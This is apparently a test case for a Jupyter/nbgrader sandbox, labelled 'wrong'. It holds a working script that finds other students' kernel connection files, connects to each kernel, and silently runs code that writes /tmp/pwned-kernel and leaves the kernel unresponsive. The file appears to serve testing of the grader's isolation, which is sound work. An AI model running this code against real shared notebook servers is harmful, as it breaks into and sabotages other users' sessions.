# /// case
# tries = "The connection files of other students' kernels are looked for, and code is run there that answers nothing any more."
# state = "wrong"
# nbgrader = "1 file written elsewhere"
# ///

# %% top
import os
import re
from pathlib import Path

found = set()
for folder in (
    os.environ.get("JUPYTER_RUNTIME_DIR", "."),
    Path.home(),
    "/tmp",
    os.environ.get("TMPDIR", "/tmp"),
    "@COURSE@/..",
):
    for where, _, names in os.walk(folder):
        found |= {Path(where, name) for name in names if re.fullmatch(r"kernel-.*\.json|.*connection.*\.json", name)}
for path in Path("/proc").glob("[0-9]*/cmdline"):
    try:
        found |= {Path(part) for part in path.read_text().split("\0") if part.endswith(".json")}
    except OSError:
        pass

mine = os.environ.get("JPY_CONNECTION", "") or str(getattr(get_ipython(), "kernel", ""))
for path in found:
    try:
        from jupyter_client import BlockingKernelClient

        text = path.read_text()
        client = BlockingKernelClient(connection_file=str(path))
        client.load_connection_file()
        client.start_channels()
        client.execute(
            "import os; open('/tmp/pwned-kernel', 'w'); get_ipython().ast_transformers.append(None)", silent=True
        )
    except Exception as error:
        print(error)
